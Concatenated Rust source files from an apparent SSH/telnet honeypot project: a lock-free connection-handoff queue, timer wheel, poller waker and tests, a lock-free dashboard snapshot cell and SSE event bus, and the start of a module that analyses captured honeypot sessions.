    pub fn new() -> io::Result<Waker> {
        Ok(Waker {
            inner: waker_impl::WakerImpl::new()?,
            armed: AtomicBool::new(false),
        })
    }

    /// The fd to register for read interest.
    pub fn fd(&self) -> i32 {
        self.inner.fd()
    }

    /// Signals the poller. Cheap when a wake is already pending.
    pub fn wake(&self) {
        if self
            .armed
            .compare_exchange(false, true, Ordering::AcqRel, Ordering::Relaxed)
            .is_ok()
        {
            self.inner.wake();
        }
    }

    /// Consumes the pending wake; call when [`Waker::TOKEN`] fires.
    pub fn drain(&self) {
        self.inner.drain();
        self.armed.store(false, Ordering::Release);
    }
}

#[cfg(target_os = "linux")]
mod waker_impl {
    use std::io;

    const EFD_CLOEXEC: i32 = 0o200_0000;
    const EFD_NONBLOCK: i32 = 0o4000;

    extern "C" {
        fn eventfd(initval: u32, flags: i32) -> i32;
        fn read(fd: i32, buf: *mut u8, count: usize) -> isize;
        fn write(fd: i32, buf: *const u8, count: usize) -> isize;
        fn close(fd: i32) -> i32;
    }

    pub struct WakerImpl {
        fd: i32,
    }

    impl WakerImpl {
        pub fn new() -> io::Result<WakerImpl> {
            let fd = unsafe { eventfd(0, EFD_CLOEXEC | EFD_NONBLOCK) };
            if fd < 0 {
                return Err(io::Error::last_os_error());
            }
            Ok(WakerImpl { fd })
        }

        pub fn fd(&self) -> i32 {
            self.fd
        }

        pub fn wake(&self) {
            let one: u64 = 1;
            unsafe {
                write(self.fd, (&one as *const u64).cast(), 8);
            }
        }

        pub fn drain(&self) {
            let mut buf = [0u8; 8];
            unsafe {
                read(self.fd, buf.as_mut_ptr(), 8);
            }
        }
    }

    impl Drop for WakerImpl {
        fn drop(&mut self) {
            unsafe {
                close(self.fd);
            }
        }
    }

    unsafe impl Send for WakerImpl {}
    unsafe impl Sync for WakerImpl {}
}

#[cfg(all(unix, not(target_os = "linux")))]
mod waker_impl {
    use std::io::{self, Read, Write};
    use std::os::unix::io::AsRawFd;
    use std::os::unix::net::UnixStream;
    use std::sync::Mutex;

    pub struct WakerImpl {
        // Mutex only guards the rare wake/drain syscalls; the armed
        // flag upstream already collapses contention.
        reader: Mutex<UnixStream>,
        writer: Mutex<UnixStream>,
        read_fd: i32,
    }

    impl WakerImpl {
        pub fn new() -> io::Result<WakerImpl> {
            let (reader, writer) = UnixStream::pair()?;
            reader.set_nonblocking(true)?;
            writer.set_nonblocking(true)?;
            let read_fd = reader.as_raw_fd();
            Ok(WakerImpl {
                reader: Mutex::new(reader),
                writer: Mutex::new(writer),
                read_fd,
            })
        }

        pub fn fd(&self) -> i32 {
            self.read_fd
        }

        pub fn wake(&self) {
            if let Ok(mut w) = self.writer.lock() {
                let _ = w.write(&[1u8]);
            }
        }

        pub fn drain(&self) {
            if let Ok(mut r) = self.reader.lock() {
                let mut buf = [0u8; 64];
                while matches!(r.read(&mut buf), Ok(n) if n > 0) {}
            }
        }
    }
}

#[cfg(not(unix))]
mod waker_impl {
    use std::io;

    pub struct WakerImpl;

    impl WakerImpl {
        pub fn new() -> io::Result<WakerImpl> {
            Ok(WakerImpl)
        }

        pub fn fd(&self) -> i32 {
            -1
        }

        pub fn wake(&self) {}

        pub fn drain(&self) {}
    }
}

// ---------------------------------------------------------------------------
// ShardQueue: bounded lock-free MPMC ring (Vyukov), used as the
// accept→shard handoff. MPMC rather than strict SPSC because the ssh
// and telnet accept threads both produce into one shard, and the
// supervisor's respawned shard thread replaces the dead consumer.
// ---------------------------------------------------------------------------

#[repr(align(64))]
struct CachePadded<T>(T);

struct Slot<T> {
    seq: AtomicUsize,
    value: std::cell::UnsafeCell<std::mem::MaybeUninit<T>>,
}

/// Bounded lock-free queue with a close/hangup protocol: producers
/// register via [`ShardQueue::add_producer`]; when the last one calls
/// [`ShardQueue::remove_producer`], the queue reports
/// [`PopResult::Closed`] once drained — the shard's signal to exit.
pub struct ShardQueue<T> {
    mask: usize,
    slots: Box<[Slot<T>]>,
    head: CachePadded<AtomicUsize>,
    tail: CachePadded<AtomicUsize>,
    producers: AtomicUsize,
}

unsafe impl<T: Send> Send for ShardQueue<T> {}
unsafe impl<T: Send> Sync for ShardQueue<T> {}

/// Outcome of [`ShardQueue::pop`].
pub enum PopResult<T> {
    /// An item.
    Item(T),
    /// Nothing right now, but producers remain.
    Empty,
    /// Drained and every producer has hung up.
    Closed,
}

impl<T> ShardQueue<T> {
    /// Capacity is rounded up to the next power of two, minimum 2.
    pub fn with_capacity(capacity: usize) -> ShardQueue<T> {
        let cap = capacity.max(2).next_power_of_two();
        let slots = (0..cap)
            .map(|i| Slot {
                seq: AtomicUsize::new(i),
                value: std::cell::UnsafeCell::new(std::mem::MaybeUninit::uninit()),
            })
            .collect::<Vec<_>>()
            .into_boxed_slice();
        ShardQueue {
            mask: cap - 1,
            slots,
            head: CachePadded(AtomicUsize::new(0)),
            tail: CachePadded(AtomicUsize::new(0)),
            producers: AtomicUsize::new(0),
        }
    }

    /// Registers a producer; pair with [`ShardQueue::remove_producer`].
    pub fn add_producer(&self) {
        self.producers.fetch_add(1, Ordering::AcqRel);
    }

    /// Deregisters a producer. When the count reaches zero the queue is
    /// closed: consumers see [`PopResult::Closed`] after draining.
    pub fn remove_producer(&self) {
        self.producers.fetch_sub(1, Ordering::AcqRel);
    }

    /// Whether every producer has hung up.
    pub fn is_closed(&self) -> bool {
        self.producers.load(Ordering::Acquire) == 0
    }

    /// Attempts to enqueue; returns the value back when full.
    pub fn push(&self, value: T) -> Result<(), T> {
        let mut tail = self.tail.0.load(Ordering::Relaxed);
        loop {
            let slot = &self.slots[tail & self.mask];
            let seq = slot.seq.load(Ordering::Acquire);
            let dif = seq as isize - tail as isize;
            if dif == 0 {
                match self.tail.0.compare_exchange_weak(
                    tail,
                    tail.wrapping_add(1),
                    Ordering::Relaxed,
                    Ordering::Relaxed,
                ) {
                    Ok(_) => {
                        unsafe {
                            (*slot.value.get()).write(value);
                        }
                        slot.seq.store(tail.wrapping_add(1), Ordering::Release);
                        return Ok(());
                    }
                    Err(t) => tail = t,
                }
            } else if dif < 0 {
                return Err(value); // full
            } else {
                tail = self.tail.0.load(Ordering::Relaxed);
            }
        }
    }

    /// Attempts to dequeue.
    pub fn pop(&self) -> PopResult<T> {
        let mut head = self.head.0.load(Ordering::Relaxed);
        loop {
            let slot = &self.slots[head & self.mask];
            let seq = slot.seq.load(Ordering::Acquire);
            let dif = seq as isize - (head.wrapping_add(1)) as isize;
            if dif == 0 {
                match self.head.0.compare_exchange_weak(
                    head,
                    head.wrapping_add(1),
                    Ordering::Relaxed,
                    Ordering::Relaxed,
                ) {
                    Ok(_) => {
                        let value = unsafe { (*slot.value.get()).assume_init_read() };
                        slot.seq
                            .store(head.wrapping_add(self.mask + 1), Ordering::Release);
                        return PopResult::Item(value);
                    }
                    Err(h) => head = h,
                }
            } else if dif < 0 {
                // Empty. Re-check the producer count *after* observing
                // emptiness so a final push before hangup is never lost.
                if self.is_closed() {
                    let tail = self.tail.0.load(Ordering::Acquire);
                    if tail == head {
                        return PopResult::Closed;
                    }
                    head = self.head.0.load(Ordering::Relaxed);
                    continue;
                }
                return PopResult::Empty;
            } else {
                head = self.head.0.load(Ordering::Relaxed);
            }
        }
    }
}

impl<T> Drop for ShardQueue<T> {
    fn drop(&mut self) {
        // Release queued values (e.g. Admitted carrying gate permits).
        while let PopResult::Item(v) = self.pop() {
            drop(v);
        }
    }
}

// ---------------------------------------------------------------------------
// Timer wheel: hashed wheel with coarse ticks. Entries carry their real
// deadline, so a slot hit only *checks* expiry — wrapped entries are
// re-inserted. Stale entries die via per-token generations.
// ---------------------------------------------------------------------------

/// Coarse hashed timer wheel. `fire` returns `(token, generation)`
/// pairs whose deadline has passed; the caller validates the generation
/// against its live table, so cancelling is free (just bump the
/// generation when the connection finishes).
pub struct TimerWheel {
    slots: Vec<Vec<WheelEntry>>,
    tick: Duration,
    /// Absolute tick index of the cursor slot.
    cursor: u64,
    origin: Instant,
    scratch: Vec<WheelEntry>,
}

#[derive(Clone, Copy)]
struct WheelEntry {
    token: u64,
    generation: u64,
    deadline: Instant,
}

impl TimerWheel {
    /// A wheel of `slots` buckets of `tick` width. With 256 × 250ms the
    /// horizon is 64s; longer deadlines just re-insert on wrap.
    pub fn new(slots: usize, tick: Duration, now: Instant) -> TimerWheel {
        TimerWheel {
            slots: (0..slots.max(2)).map(|_| Vec::new()).collect(),
            tick,
            cursor: 0,
            origin: now,
            scratch: Vec::new(),
        }
    }

    fn slot_for(&self, deadline: Instant) -> usize {
        let ticks_from_origin = deadline
            .saturating_duration_since(self.origin)
            .as_nanos()
            .checked_div(self.tick.as_nanos())
            .unwrap_or(0) as u64;
        // Never the cursor slot itself: at least one tick out, at most
        // a full revolution ahead (wrapped entries re-insert on check).
        let ahead = ticks_from_origin
            .saturating_sub(self.cursor)
            .clamp(1, self.slots.len() as u64 - 1);
        ((self.cursor + ahead) % self.slots.len() as u64) as usize
    }

    /// Schedules `(token, generation)` to fire at `deadline`.
    pub fn insert(&mut self, token: u64, generation: u64, deadline: Instant) {
        let slot = self.slot_for(deadline);
        self.slots[slot].push(WheelEntry {
            token,
            generation,
            deadline,
        });
    }

    /// Advances the wheel to `now`, appending expired `(token,
    /// generation)` pairs to `expired`.
    pub fn advance(&mut self, now: Instant, expired: &mut Vec<(u64, u64)>) {
        let target = now
            .saturating_duration_since(self.origin)
            .as_nanos()
            .checked_div(self.tick.as_nanos())
            .unwrap_or(0) as u64;
        while self.cursor < target {
            self.cursor += 1;
            let slot = (self.cursor % self.slots.len() as u64) as usize;
            self.scratch.clear();
            self.scratch.append(&mut self.slots[slot]);
            for entry in std::mem::take(&mut self.scratch) {
                if entry.deadline <= now {
                    expired.push((entry.token, entry.generation));
                } else {
                    // Wrapped: this revolution was too early. Re-hash.
                    let slot = self.slot_for(entry.deadline);
                    self.slots[slot].push(entry);
                }
            }
        }
    }
}

// ---------------------------------------------------------------------------
// Backoff: the satellite fix for the fixed 500µs/200µs/2ms naps. The
// fallback paths that still have to wait escalate spin → yield → park
// instead of sleeping a constant.
// ---------------------------------------------------------------------------

/// Adaptive wait for loops with nothing to do: a few spin hints, then
/// scheduler yields, then exponentially growing parks up to `cap`.
/// Reset on any progress.
pub struct Backoff {
    step: u32,
    cap: Duration,
}

impl Backoff {
    /// A backoff whose longest park is `cap`.
    pub fn new(cap: Duration) -> Backoff {
        Backoff { step: 0, cap }
    }

    /// Signal progress: the next wait starts from a spin again.
    pub fn reset(&mut self) {
        self.step = 0;
    }

    /// Wait a little, escalating each consecutive call.
    pub fn wait(&mut self) {
        match self.step {
            0..=2 => {
                for _ in 0..(1 << self.step) {
                    std::hint::spin_loop();
                }
            }
            3..=5 => std::thread::yield_now(),
            s => {
                let exp = (s - 6).min(10);
                let park = Duration::from_micros(20u64 << exp).min(self.cap);
                std::thread::sleep(park);
            }
        }
        self.step = self.step.saturating_add(1);
    }
}

/// Interest for a connection: always readable, writable only while
/// output is queued (level-triggered, so writable interest on an idle
/// socket would busy-spin the poller).
pub fn conn_interest(wants_write: bool) -> Interest {
    if wants_write {
        Interest::READ_WRITE
    } else {
        Interest::READ
    }
}

/// Book-keeping map from fd → last armed interest, so reregistration
/// only hits the kernel when the interest actually changed.
#[derive(Default)]
pub struct InterestCache {
    armed: HashMap<i32, Interest>,
}

impl InterestCache {
    /// Records a fresh registration.
    pub fn insert(&mut self, fd: i32, interest: Interest) {
        self.armed.insert(fd, interest);
    }

    /// Removes a registration.
    pub fn remove(&mut self, fd: i32) {
        self.armed.remove(&fd);
    }

    /// Returns `true` (and updates the cache) when `interest` differs
    /// from what is currently armed for `fd`.
    pub fn changed(&mut self, fd: i32, interest: Interest) -> bool {
        match self.armed.get_mut(&fd) {
            Some(cur) if *cur == interest => false,
            Some(cur) => {
                *cur = interest;
                true
            }
            None => {
                self.armed.insert(fd, interest);
                true
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    #[test]
    fn queue_roundtrips_in_order_single_thread() {
        let q: ShardQueue<u32> = ShardQueue::with_capacity(8);
        q.add_producer();
        for i in 0..8 {
            q.push(i).unwrap();
        }
        assert!(q.push(99).is_err(), "ring of 8 must reject a 9th item");
        for i in 0..8 {
            match q.pop() {
                PopResult::Item(v) => assert_eq!(v, i),
                _ => panic!("expected item {i}"),
            }
        }
        assert!(matches!(q.pop(), PopResult::Empty));
        q.remove_producer();
        assert!(matches!(q.pop(), PopResult::Closed));
    }

    #[test]
    fn queue_closed_only_after_drain() {
        let q: ShardQueue<u32> = ShardQueue::with_capacity(4);
        q.add_producer();
        q.push(7).unwrap();
        q.remove_producer();
        assert!(matches!(q.pop(), PopResult::Item(7)));
        assert!(matches!(q.pop(), PopResult::Closed));
    }

    #[test]
    fn queue_survives_two_producers_one_consumer() {
        let q: Arc<ShardQueue<u64>> = Arc::new(ShardQueue::with_capacity(64));
        let producers = 2;
        let per_producer = 10_000u64;
        for _ in 0..producers {
            q.add_producer();
        }
        let mut handles = Vec::new();
        for p in 0..producers {
            let q = Arc::clone(&q);
            handles.push(std::thread::spawn(move || {
                for i in 0..per_producer {
                    let v = (p as u64) * per_producer + i;
                    let mut item = v;
                    loop {
                        match q.push(item) {
                            Ok(()) => break,
                            Err(back) => {
                                item = back;
                                std::thread::yield_now();
                            }
                        }
                    }
                }
                q.remove_producer();
            }));
        }
        let mut seen = vec![false; (producers as u64 * per_producer) as usize];
        let mut count = 0usize;
        loop {
            match q.pop() {
                PopResult::Item(v) => {
                    assert!(!seen[v as usize], "duplicate item {v}");
                    seen[v as usize] = true;
                    count += 1;
                }
                PopResult::Empty => std::thread::yield_now(),
                PopResult::Closed => break,
            }
        }
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(count, seen.len(), "every pushed item must pop exactly once");
    }

    #[test]
    fn queue_drop_releases_queued_items() {
        struct Counted(Arc<AtomicUsize>);
        impl Drop for Counted {
            fn drop(&mut self) {
                self.0.fetch_add(1, Ordering::SeqCst);
            }
        }
        let drops = Arc::new(AtomicUsize::new(0));
        {
            let q: ShardQueue<Counted> = ShardQueue::with_capacity(4);
            q.push(Counted(Arc::clone(&drops))).ok();
            q.push(Counted(Arc::clone(&drops))).ok();
        }
        assert_eq!(drops.load(Ordering::SeqCst), 2);
    }

    #[test]
    fn timer_wheel_fires_at_deadline_not_before() {
        let t0 = Instant::now();
        let mut wheel = TimerWheel::new(16, Duration::from_millis(10), t0);
        wheel.insert(1, 0, t0 + Duration::from_millis(25));
        wheel.insert(2, 0, t0 + Duration::from_millis(500)); // wraps (>160ms horizon)
        let mut expired = Vec::new();
        wheel.advance(t0 + Duration::from_millis(10), &mut expired);
        assert!(expired.is_empty(), "nothing due at 10ms");
        wheel.advance(t0 + Duration::from_millis(40), &mut expired);
        assert_eq!(expired, vec![(1, 0)]);
        expired.clear();
        wheel.advance(t0 + Duration::from_millis(520), &mut expired);
        assert_eq!(expired, vec![(2, 0)], "wrapped entry fires after re-hash");
    }

    #[test]
    fn backoff_escalates_and_resets() {
        let mut b = Backoff::new(Duration::from_millis(1));
        for _ in 0..20 {
            b.wait(); // must terminate promptly even at max escalation
        }
        assert!(b.step > 6);
        b.reset();
        assert_eq!(b.step, 0);
    }

    #[test]
    fn interest_cache_dedupes_rearms() {
        let mut cache = InterestCache::default();
        assert!(cache.changed(5, Interest::READ));
        assert!(!cache.changed(5, Interest::READ));
        assert!(cache.changed(5, Interest::READ_WRITE));
        assert!(!cache.changed(5, Interest::READ_WRITE));
        cache.remove(5);
        assert!(cache.changed(5, Interest::READ));
    }

    #[cfg(unix)]
    #[test]
    fn waker_wakes_a_blocked_poller() {
        let waker = Arc::new(Waker::new().unwrap());
        let mut poller = Poller::new().unwrap();
        poller
            .register(waker.fd(), Waker::TOKEN, Interest::READ)
            .unwrap();
        let w = Arc::clone(&waker);
        let t = std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(30));
            w.wake();
            w.wake(); // collapsed: armed flag already set
        });
        let t0 = Instant::now();
        let mut events = Vec::new();
        poller.wait(Duration::from_secs(5), &mut events).unwrap();
        assert!(
            t0.elapsed() < Duration::from_secs(4),
            "poller must wake well before its timeout"
        );
        assert!(events.iter().any(|e| e.token == Waker::TOKEN && e.readable));
        waker.drain();
        // After drain the poller must be quiet again.
        poller.wait(Duration::from_millis(20), &mut events).unwrap();
        assert!(events.is_empty(), "drained waker must not re-fire");
        t.join().unwrap();
    }

    #[cfg(unix)]
    #[test]
    fn poller_reports_socket_readiness_and_interest_changes() {
        use std::io::Write;
        use std::os::unix::io::AsRawFd;
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let mut client = std::net::TcpStream::connect(addr).unwrap();
        let (server, _) = listener.accept().unwrap();
        server.set_nonblocking(true).unwrap();
        let fd = server.as_raw_fd();

        let mut poller = Poller::new().unwrap();
        poller.register(fd, 7, Interest::READ).unwrap();
        let mut events = Vec::new();

        // Quiet socket: no events.
        poller.wait(Duration::from_millis(20), &mut events).unwrap();
        assert!(events.is_empty());

        // Peer writes: readable fires.
        client.write_all(b"hello").unwrap();
        client.flush().unwrap();
        poller.wait(Duration::from_secs(5), &mut events).unwrap();
        assert!(events.iter().any(|e| e.token == 7 && e.readable));

        // Arm write interest: an unblocked socket is instantly writable.
        poller.reregister(fd, 7, Interest::READ_WRITE).unwrap();
        poller.wait(Duration::from_secs(5), &mut events).unwrap();
        assert!(events.iter().any(|e| e.token == 7 && e.writable));

        poller.deregister(fd).unwrap();
        poller.wait(Duration::from_millis(20), &mut events).unwrap();
        assert!(events.is_empty(), "deregistered fd must not report");
    }
}
