//! Lock-free publication primitives for the observability plane.
//!
//! The dashboard contract is one-directional: the serving hot path
//! (accept threads, worker shards) must never block on — or even share a
//! lock with — dashboard readers. Two primitives enforce that:
//!
//! * [`SnapshotCell`] — a single-writer, multi-reader cell holding an
//!   `Arc<T>` snapshot. Readers *atomically* acquire the current `Arc`
//!   without taking any lock (a 2-slot RCU: per-slot reader counts plus
//!   an atomic current-slot index); the single writer publishes a new
//!   snapshot by swapping the retired slot and waiting out its last
//!   stragglers. The writer is the aggregator thread, never a serving
//!   thread, so a slow (or stalled) dashboard reader can only delay the
//!   *next* publish — never a connection.
//! * [`EventBus`] — SSE fan-out with bounded per-subscriber queues. The
//!   publisher (again: only the aggregator thread) `try_send`s each
//!   frame; a subscriber that cannot keep up loses frames (counted),
//!   rather than exerting backpressure upstream.
//!
//! Serving threads interact with the plane exclusively through an
//! `mpsc::Sender` (see `stats::AggEvent`), the same lock-free handoff
//! already used on the accept→shard path.

use std::sync::atomic::{AtomicPtr, AtomicU64, AtomicUsize, Ordering};
use std::sync::mpsc::{Receiver, SyncSender, TrySendError};
use std::sync::Arc;

/// One slot of the RCU cell: an owned `Arc` (as a raw pointer) plus the
/// count of readers currently acquiring through this slot.
struct Slot<T> {
    ptr: AtomicPtr<T>,
    readers: AtomicUsize,
}

/// A single-writer, multi-reader snapshot cell. Readers call
/// [`SnapshotCell::load`] (lock-free, no syscalls); the unique writer
/// holds the [`SnapshotPublisher`] and calls
/// [`SnapshotPublisher::publish`].
///
/// # How the 2-slot RCU works
///
/// `current` indexes the live slot. A reader (1) increments the live
/// slot's reader count, (2) re-checks `current` — if it moved, the slot
/// may be getting retired, so back off and retry — then (3) clones the
/// `Arc` out of the slot and decrements the count. The writer publishes
/// into the *retired* slot: it first waits for that slot's reader count
/// to drain (readers there either finished or will fail their re-check
/// without touching the pointer), swaps the new snapshot in, flips
/// `current`, and only then drops the displaced `Arc`. The write side
/// may spin briefly; the read side never does more than retry step
/// (1)–(2), which only loops while a publish is in flight.
pub struct SnapshotCell<T> {
    slots: [Slot<T>; 2],
    current: AtomicUsize,
}

// SAFETY: the cell hands out `Arc<T>` clones across threads; the raw
// pointers are only manufactured from and released back to `Arc`.
unsafe impl<T: Send + Sync> Send for SnapshotCell<T> {}
unsafe impl<T: Send + Sync> Sync for SnapshotCell<T> {}

impl<T> SnapshotCell<T> {
    /// Creates a cell seeded with `initial` and returns it with its
    /// unique writer handle.
    pub fn new(initial: Arc<T>) -> (Arc<Self>, SnapshotPublisher<T>) {
        // Both slots start populated so `load` never sees a null: slot 0
        // is live, slot 1 holds a second reference to the same snapshot.
        let a = Arc::into_raw(Arc::clone(&initial)) as *mut T;
        let b = Arc::into_raw(initial) as *mut T;
        let cell = Arc::new(Self {
            slots: [
                Slot {
                    ptr: AtomicPtr::new(a),
                    readers: AtomicUsize::new(0),
                },
                Slot {
                    ptr: AtomicPtr::new(b),
                    readers: AtomicUsize::new(0),
                },
            ],
            current: AtomicUsize::new(0),
        });
        let publisher = SnapshotPublisher {
            cell: Arc::clone(&cell),
        };
        (cell, publisher)
    }

    /// Acquires the current snapshot. Lock-free: at worst it retries the
    /// two-instruction acquire protocol while a publish is mid-flip.
    pub fn load(&self) -> Arc<T> {
        loop {
            let i = self.current.load(Ordering::SeqCst);
            self.slots[i].readers.fetch_add(1, Ordering::SeqCst);
            if self.current.load(Ordering::SeqCst) == i {
                let p = self.slots[i].ptr.load(Ordering::SeqCst);
                // SAFETY: `current == i` after our reader-count
                // increment means the writer cannot have retired this
                // slot (it drains the count *before* swapping the
                // pointer and flips `current` before the next retire),
                // so `p` is a live Arc raw pointer.
                let arc = unsafe {
                    Arc::increment_strong_count(p);
                    Arc::from_raw(p)
                };
                self.slots[i].readers.fetch_sub(1, Ordering::SeqCst);
                return arc;
            }
            // A publish flipped `current` between our load and
            // increment; this slot may be getting retired. Back off.
            self.slots[i].readers.fetch_sub(1, Ordering::SeqCst);
            std::hint::spin_loop();
        }
    }
}

impl<T> Drop for SnapshotCell<T> {
    fn drop(&mut self) {
        for slot in &self.slots {
            let p = slot.ptr.load(Ordering::SeqCst);
            if !p.is_null() {
                // SAFETY: each slot holds one owned Arc reference.
                unsafe { drop(Arc::from_raw(p)) };
            }
        }
    }
}

/// The unique write handle of a [`SnapshotCell`]. Owned by the
/// aggregator thread; `publish` takes `&mut self`, so single-writer is
/// enforced by the type system.
pub struct SnapshotPublisher<T> {
    cell: Arc<SnapshotCell<T>>,
}

impl<T> SnapshotPublisher<T> {
    /// Publishes a new snapshot. May spin waiting for the last readers
    /// of the *previous-previous* snapshot to finish their (handful of
    /// instructions) acquire sequence — never for readers holding the
    /// returned `Arc`, which keep it alive independently.
    pub fn publish(&mut self, snapshot: Arc<T>) {
        let cell = &*self.cell;
        let live = cell.current.load(Ordering::SeqCst);
        let retired = 1 - live;
        // Drain stragglers still acquiring through the retired slot.
        // They either complete (count returns to 0) or fail their
        // re-check of `current` (it has pointed at `live` since the
        // previous publish) and never touch the pointer.
        while cell.slots[retired].readers.load(Ordering::SeqCst) != 0 {
            std::hint::spin_loop();
        }
        let fresh = Arc::into_raw(snapshot) as *mut T;
        let old = cell.slots[retired].ptr.swap(fresh, Ordering::SeqCst);
        cell.current.store(retired, Ordering::SeqCst);
        // SAFETY: `old` was this slot's owned reference; no reader can
        // have begun an acquire on it since the drain above, and any
        // reader that cloned it earlier holds its own strong count.
        unsafe { drop(Arc::from_raw(old)) };
    }

    /// Read access for the writer itself (same lock-free path).
    pub fn load(&self) -> Arc<T> {
        self.cell.load()
    }
}

/// How deep each SSE subscriber's frame queue is before frames drop.
pub const SUBSCRIBER_QUEUE_DEPTH: usize = 256;

/// One SSE subscriber's receive side.
pub struct Subscription {
    rx: Receiver<Arc<String>>,
}

impl Subscription {
    /// Takes the next queued frame, if any (never blocks).
    pub fn try_next(&self) -> Option<Arc<String>> {
        self.rx.try_recv().ok()
    }
}

/// Fan-out of rendered SSE frames to live subscribers.
///
/// Published frames are reference-counted, rendered once, and
/// `try_send`-delivered: a full subscriber queue drops the frame for
/// that subscriber only (counted in [`EventBus::dropped_frames`]).
/// The subscriber list is behind a mutex, but it is touched only by the
/// aggregator thread and HTTP workers — never by an accept thread or
/// connection shard.
#[derive(Default)]
pub struct EventBus {
    subs: parking_lot::Mutex<Vec<SyncSender<Arc<String>>>>,
    dropped: AtomicU64,
}

impl EventBus {
    /// A bus with no subscribers.
    pub fn new() -> Self {
        Self::default()
    }

    /// Registers a subscriber; frames published from now on are queued
    /// for it (up to [`SUBSCRIBER_QUEUE_DEPTH`]).
    pub fn subscribe(&self) -> Subscription {
        let (tx, rx) = std::sync::mpsc::sync_channel(SUBSCRIBER_QUEUE_DEPTH);
        self.subs.lock().push(tx);
        Subscription { rx }
    }

    /// Publishes one rendered frame to every live subscriber.
    /// Disconnected subscribers are dropped from the list; full queues
    /// lose this frame and bump the drop counter.
    pub fn publish(&self, frame: String) {
        let frame = Arc::new(frame);
        let mut subs = self.subs.lock();
        subs.retain(|tx| match tx.try_send(Arc::clone(&frame)) {
            Ok(()) => true,
            Err(TrySendError::Full(_)) => {
                self.dropped.fetch_add(1, Ordering::Relaxed);
                true
            }
            Err(TrySendError::Disconnected(_)) => false,
        });
    }

    /// Live subscriber count.
    pub fn subscribers(&self) -> usize {
        self.subs.lock().len()
    }

    /// Frames lost to slow subscribers since startup.
    pub fn dropped_frames(&self) -> u64 {
        self.dropped.load(Ordering::Relaxed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::AtomicBool;

    #[test]
    fn snapshot_cell_loads_what_was_published() {
        let (cell, mut publisher) = SnapshotCell::new(Arc::new(0u64));
        assert_eq!(*cell.load(), 0);
        for i in 1..=100u64 {
            publisher.publish(Arc::new(i));
            assert_eq!(*cell.load(), i);
            assert_eq!(*publisher.load(), i);
        }
    }

    #[test]
    fn snapshot_cell_held_arcs_survive_later_publishes() {
        let (cell, mut publisher) = SnapshotCell::new(Arc::new(String::from("gen-0")));
        let held = cell.load();
        for i in 1..=10 {
            publisher.publish(Arc::new(format!("gen-{i}")));
        }
        assert_eq!(*held, "gen-0");
        assert_eq!(*cell.load(), "gen-10");
    }

    /// Readers hammer `load` while the writer publishes monotonically
    /// increasing values; every loaded value must be valid (no torn or
    /// freed reads — this test runs under the normal test harness, so a
    /// use-after-free would be UB caught by the allocator or by the
    /// monotonicity check below).
    #[test]
    fn snapshot_cell_concurrent_stress() {
        let (cell, mut publisher) = SnapshotCell::new(Arc::new(vec![0u64; 32]));
        let stop = Arc::new(AtomicBool::new(false));
        let readers: Vec<_> = (0..4)
            .map(|_| {
                let cell = Arc::clone(&cell);
                let stop = Arc::clone(&stop);
                std::thread::spawn(move || {
                    let mut last = 0u64;
                    let mut loads = 0u64;
                    while !stop.load(Ordering::Relaxed) {
                        let snap = cell.load();
                        // Every element equals the generation: a torn or
                        // stale-freed snapshot would break this.
                        let g = snap[0];
                        assert!(snap.iter().all(|&x| x == g), "consistent snapshot");
                        assert!(g >= last, "generations never run backwards");
                        last = g;
                        loads += 1;
                    }
                    loads
                })
            })
            .collect();
        for g in 1..=10_000u64 {
            publisher.publish(Arc::new(vec![g; 32]));
        }
        stop.store(true, Ordering::Relaxed);
        let total: u64 = readers.into_iter().map(|h| h.join().unwrap()).sum();
        assert!(total > 0, "readers made progress");
        assert_eq!(cell.load()[0], 10_000);
    }

    #[test]
    fn event_bus_delivers_and_drops_only_on_full_queues() {
        let bus = EventBus::new();
        let sub = bus.subscribe();
        assert_eq!(bus.subscribers(), 1);
        bus.publish("frame-1".into());
        bus.publish("frame-2".into());
        assert_eq!(
            sub.try_next().as_deref().map(String::as_str),
            Some("frame-1")
        );
        assert_eq!(
            sub.try_next().as_deref().map(String::as_str),
            Some("frame-2")
        );
        assert!(sub.try_next().is_none());

        // Overflow: the slow subscriber loses frames, the bus survives.
        for i in 0..(SUBSCRIBER_QUEUE_DEPTH + 10) {
            bus.publish(format!("f{i}"));
        }
        assert_eq!(bus.dropped_frames(), 10);
        // Dropping the subscription unregisters on the next publish.
        drop(sub);
        bus.publish("gone".into());
        assert_eq!(bus.subscribers(), 0);
    }
}
