//! The unified analysis entry point.
//!
//! Before this module, every report had its own iterator-generic function
//! (`TaxonomyStats::compute`, `report::category_counts`,
//! `logins::top_passwords`, …) and every caller re-scanned the session
//! source once *per report* — six out-of-core passes over a store to print
//! one summary. [`AnalysisBuilder`] collapses them: pick a
//! [`SessionSource`], select [`ReportKind`]s (default: all), and one
//! streaming pass feeds every selected report's accumulator
//! simultaneously.
//!
//! ```no_run
//! use honeylab_core::analysis::{AnalysisBuilder, ReportKind, SessionSource};
//!
//! let store = sessiondb::Store::open("honeynet.hsdb")?;
//! let report = AnalysisBuilder::new(SessionSource::Store(&store))
//!     .report(ReportKind::Taxonomy)
//!     .report(ReportKind::Passwords)
//!     .top_n(20)
//!     .run()?;
//! let stats = report.taxonomy.unwrap();
//! # Ok::<(), honeylab_core::analysis::AnalysisError>(())
//! ```
//!
//! The per-report functions remain for callers that want exactly one
//! artefact; they now delegate to the same accumulators, so both paths
//! compute identical results.
//!
//! # Parallel map-reduce
//!
//! [`AnalysisBuilder::threads`] turns the single streaming pass into a
//! map-reduce: the source is partitioned (store segments, or contiguous
//! slice chunks), each worker folds its partition into a private
//! [`Accumulators`]-bundle, and the partials are merged **in partition
//! order**. Every accumulator's `merge` is associative, and the one
//! order-sensitive accumulator (download events, a concatenation) is
//! exactly why partials merge in ascending partition order — the merged
//! event sequence is the serial sequence. The parallel result is
//! byte-identical to `threads(1)`, for any thread count.

use crate::classify::Classifier;
use crate::logins::{CowrieDefaultProbes, ProbeAccumulator, TopPasswords, TopPasswordsAccumulator};
use crate::mdrfckr::{Timeline, TimelineAccumulator};
use crate::report::ClassificationAccumulator;
use crate::storage_analysis::{DownloadAccumulator, DownloadEvent, StorageStats};
use crate::taxonomy::{TaxonomyAccumulator, TaxonomyStats};
use honeypot::{from_cowrie_log_lossy, SessionRecord};

/// The reports [`AnalysisBuilder`] can compute.
